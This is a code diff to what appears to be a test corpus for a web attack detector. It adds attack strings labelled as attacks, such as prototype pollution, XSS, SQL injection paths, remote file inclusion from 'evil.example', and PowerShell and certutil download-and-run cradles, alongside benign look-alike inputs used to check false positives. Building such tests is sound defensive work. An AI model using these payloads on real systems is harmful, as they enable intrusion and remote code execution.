@@ -253,11 +253,31 @@ SECOND_HOLDOUT_BODIES = [
  ("text/plain", b"Dear team, please select a plan and drop me a line. Thanks, O'Brien"),
 ]
 
+# Classes added with their signatures (not a holdout): prototype pollution, UTF-7 and
+# template-sandbox XSS, PHP superglobals, remote file inclusion, Windows living off the land.
+ADDED_CLASS_ATTACKS = [
+    "__proto__[admin]=1", "constructor[prototype][x]=1", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "{{$on.constructor('alert(1)')()}}", "\" onmouseover=print() x=\"", "' autofocus onfocus=alert`1` '",
+    "$_GET['cmd']", "allow_url_include=1", "http://1.2.3.4/shell.txt", "http://evil.example/shell.txt?",
+    "certutil -urlcache -split -f http://x/a.exe", "powershell -enc SQBFAFgA",
+    "powershell.exe -NoP -c iex(new-object net.webclient)",
+    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "../.env",
+]
+ADDED_CLASS_PATHS = ["/item/1%20union%20select%201,2", "/p/1'%20union%20select%20password%20from%20users--",
+                     "/x/sleep(5)", "/s?x[__proto__][isAdmin]=true"]
+ADDED_CLASS_BENIGN = [
+    "proto type", "constructor of a class", "print()", "$5 GET 2", "http://1.2.3.4/",
+    "http://example.com/a?", "certutil hash file", "powershell get-childitem", "config web",
+    "my .env setup", "what is web.config", "onboarding = step 1", "it's on", "'on' =", "adw-123",
+    "I'm onfire=true", "Union Select Committee",
+]
 
 def attacks() -> list[Entry]:
     """Return the attack requests."""
     out: list[Entry] = [_arg("holdout", payload, "q", "/s") for payload in HOLDOUT_ATTACKS]
     out += [_arg("holdout2", payload, "q", "/s") for payload in SECOND_HOLDOUT_ATTACKS]
+    out += [_arg("added", payload, "q", "/s") for payload in ADDED_CLASS_ATTACKS]
+    out += [_get("added", target) for target in ADDED_CLASS_PATHS]
     for payload in SECOND_HOLDOUT_ATTACKS[::7]:
         out.append(("holdout2", "POST", "/api/run", JSON_HEADERS,
                     json.dumps({"value": payload}).encode()))
@@ -342,6 +362,7 @@ def benign() -> list[Entry]:
     ]
     out: list[Entry] = [_arg("benign", term, "q", "/s") for term in HOLDOUT_BENIGN]
     out += [_arg("benign", term, "q", "/s") for term in SECOND_HOLDOUT_BENIGN]
+    out += [_arg("benign", term, "q", "/s") for term in ADDED_CLASS_BENIGN]
     for content_type, body in SECOND_HOLDOUT_BODIES:
         out.append(("benign", "POST", "/api/notes", {**BROWSER, "content-type": content_type}, body))
     for term in searches:
